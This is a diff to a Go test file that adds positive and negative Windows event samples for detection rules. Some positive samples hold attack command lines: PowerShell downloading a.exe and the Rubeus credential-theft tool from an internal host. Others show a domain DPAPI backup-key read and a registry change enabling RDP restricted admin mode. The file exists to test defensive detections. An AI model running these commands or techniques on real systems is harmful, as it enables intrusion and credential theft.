@@ -281,6 +281,56 @@ ParameterBinding(Set-GPRegistryValue): name="Key"; value="HKLM\Software\Microsof
 				"ParentImage": `C:\Windows\System32\cmd.exe`,
 			},
 		},
+		{
+			ID:      "8df4f60a-2c91-458b-9b10-5d0c7e2f4a63", // PowerShell Command Line Downloads a File to Disk
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
+				"CommandLine": `powershell -c "(New-Object Net.WebClient).DownloadFile('http://10.0.0.5/a.exe','C:\Users\Public\a.exe')"`,
+				"ParentImage": `C:\Windows\System32\cmd.exe`,
+			},
+		},
+		{
+			ID:      "8df4f60a-2c91-458b-9b10-5d0c7e2f4a63", // PowerShell Command Line Downloads a File to Disk
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
+				"CommandLine": `powershell.exe iwr http://10.0.0.5/tools/rubeus.exe -OutFile $env:TEMP\r.exe`,
+				"ParentImage": `C:\Windows\System32\wscript.exe`,
+			},
+		},
+		{
+			ID:      "9e05a71b-3da2-469c-8c21-6e1d8f3a5b74", // Domain DPAPI Backup Key Read From the Domain Controller
+			Channel: "Security", EventID: 4662,
+			Fields: map[string]string{
+				"EventID":         `4662`,
+				"SubjectUserName": `pgustavo`,
+				"ObjectServer":    `LSA`,
+				"ObjectType":      `SecretObject`,
+				"ObjectName":      `Policy\Secrets\G$BCKUPKEY_PREFERRED`,
+				"AccessMask":      `0x2`,
+			},
+		},
+		{
+			ID:      "0af16b2c-4eb3-47ad-9d32-7f2e9a4b6c85", // User Account Created
+			Channel: "Security", EventID: 4720,
+			Fields: map[string]string{
+				"EventID":          `4720`,
+				"SubjectUserName":  `pgustavo`,
+				"TargetUserName":   `support_tmp`,
+				"TargetDomainName": `WS06`,
+			},
+		},
+		{
+			ID:      "1b027c3d-5fc3-48be-8e43-8f3a0b5c7d96", // RDP Restricted Admin Mode Enabled in the Registry
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
+			Fields: map[string]string{
+				"EventType":    `SetValue`,
+				"Image":        `C:\Windows\system32\reg.exe`,
+				"TargetObject": `HKLM\System\CurrentControlSet\Control\Lsa\DisableRestrictedAdmin`,
+				"Details":      `DWORD (0x00000000)`,
+			},
+		},
 	}...)
 
 	ruleNegatives = append(ruleNegatives, []ruleSample{
@@ -516,6 +566,47 @@ ParameterBinding(Get-ADUser): name="Identity"; value="krbtgt"`,
 				"Image":       `C:\Windows\System32\rundll32.exe`,
 				"CommandLine": `"C:\Windows\system32\rundll32.exe" C:\Windows\system32\shell32.dll,Control_RunDLL desk.cpl`,
 				"ParentImage": `C:\Windows\explorer.exe`,
+			},
+		},
+		{
+			ID:      "8df4f60a-2c91-458b-9b10-5d0c7e2f4a63", // PowerShell Command Line Downloads a File to Disk
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
+				"CommandLine": `powershell -c Invoke-WebRequest https://api.example.com/health -UseBasicParsing`,
+				"ParentImage": `C:\Windows\System32\svchost.exe`,
+			},
+		},
+		{
+			ID:      "9e05a71b-3da2-469c-8c21-6e1d8f3a5b74", // Domain DPAPI Backup Key Read From the Domain Controller
+			Channel: "Security", EventID: 4662,
+			Fields: map[string]string{
+				"EventID":         `4662`,
+				"SubjectUserName": `DC01$`,
+				"ObjectServer":    `LSA`,
+				"ObjectType":      `SecretObject`,
+				"ObjectName":      `Policy\Secrets\G$BCKUPKEY_PREFERRED`,
+				"AccessMask":      `0x2`,
+			},
+		},
+		{
+			ID:      "0af16b2c-4eb3-47ad-9d32-7f2e9a4b6c85", // User Account Created
+			Channel: "Security", EventID: 4720,
+			Fields: map[string]string{
+				"EventID":          `4720`,
+				"SubjectUserName":  `Administrator`,
+				"TargetUserName":   `WS99$`,
+				"TargetDomainName": `SHIRE`,
+			},
+		},
+		{
+			ID:      "1b027c3d-5fc3-48be-8e43-8f3a0b5c7d96", // RDP Restricted Admin Mode Enabled in the Registry
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
+			Fields: map[string]string{
+				"EventType":    `SetValue`,
+				"Image":        `C:\Windows\system32\svchost.exe`,
+				"TargetObject": `HKLM\System\CurrentControlSet\Control\Lsa\DisableRestrictedAdmin`,
+				"Details":      `DWORD (0x00000001)`,
 			},
 		},
 	}...)
